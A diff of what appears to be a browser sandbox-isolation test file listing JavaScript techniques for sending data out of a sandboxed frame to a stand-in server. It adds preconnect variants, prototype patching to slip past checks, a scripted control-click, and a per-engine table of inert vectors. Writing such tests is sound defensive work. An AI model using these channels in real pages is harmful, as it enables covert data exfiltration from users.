@@ -1,6 +1,7 @@
 // Ways out for data. Each is a function that runs in the frame; `to` names a stranger's server that hears whatever comes.
 
-/** Each must reach the stranger from a frame that is sandboxed and nothing else, or it would prove nothing. */
+/** Each must reach the stranger from a frame that is sandboxed and nothing else, or it would prove nothing. `INERT` names the
+ * engines in which it does not. */
 export const leaks = {
   fetch: (to) => fetch(to.http, { mode: 'no-cors' }),
   'fetch with keepalive': (to) => fetch(to.http, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'data' }),
@@ -107,6 +108,45 @@ export const leaks = {
     meta.content = `0; url=${to.http}`;
     document.head.append(meta);
   },
+  'a preconnect': (to) => {
+    const link = document.createElement('link');
+    link.rel = 'preconnect';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'a link of the document that becomes a preconnect': (to) => {
+    const link = document.querySelector('link, meta');
+    if (link.localName === 'meta') throw new Error('there is no link');
+    link.rel = 'preconnect';
+    link.href = to.http;
+  },
+  'a clone that becomes a preconnect': (to) => {
+    const link = document.querySelector('link').cloneNode();
+    link.rel = 'preconnect';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'a preconnect that is the root of a new document': (to) => {
+    const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link', null);
+    const link = document.adoptNode(made.documentElement);
+    link.rel = 'preconnect';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'a preconnect after strings were patched': (to) => {
+    String.prototype.toLowerCase = String.prototype.slice = () => 'p';
+    String.prototype.lastIndexOf = () => -1;
+    Set.prototype.has = () => false;
+    const link = document.createElement('link');
+    link.rel = 'preconnect';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'a control-click from a script on a link outside of the document': (to) => {
+    const link = document.createElement('a');
+    link.href = to.http;
+    link.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true, cancelable: true }));
+  },
   WebRTC: async (to) => {
     const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${to.port}` }] });
     peer.createDataChannel('leak');
@@ -118,15 +158,8 @@ export const leaks = {
   },
 };
 
-/** A sandboxed frame cannot do these either way, or this Chromium does not; they are tried all the same. */
+/** A sandboxed frame cannot do these either way; they are tried all the same. */
 export const hopeless = {
-  // With `--disable-background-networking` nothing is connected to ahead of time.
-  'a preconnect': (to) => {
-    const link = document.createElement('link');
-    link.rel = 'preconnect';
-    link.href = to.http;
-    document.head.append(link);
-  },
   'a fresh document': (to) => {
     const frame = document.createElement('iframe');
     document.body.append(frame);
@@ -161,4 +194,15 @@ export const hopeless = {
     link.click();
   },
   WebTransport: (to) => new WebTransport(`https://127.0.0.1:${to.port}/`).ready.catch(() => {}),
+};
+
+const PRECONNECTS = Object.keys(leaks).filter((name) => name.includes('preconnect'));
+/** What reaches nobody from a naive frame, by engine. */
+export const INERT = {
+  // With `--disable-background-networking` it connects to nothing ahead of time.
+  chromium: PRECONNECTS,
+  // Its STUN does not go to a loopback address, and no tab is opened by a script's click.
+  firefox: ['WebRTC', 'a control-click from a script on a link outside of the document'],
+  // WebKitGTK is built without WebRTC, and frames of opaque origins have no navigation.
+  webkit: ['WebRTC', 'navigation.navigate'],
 };
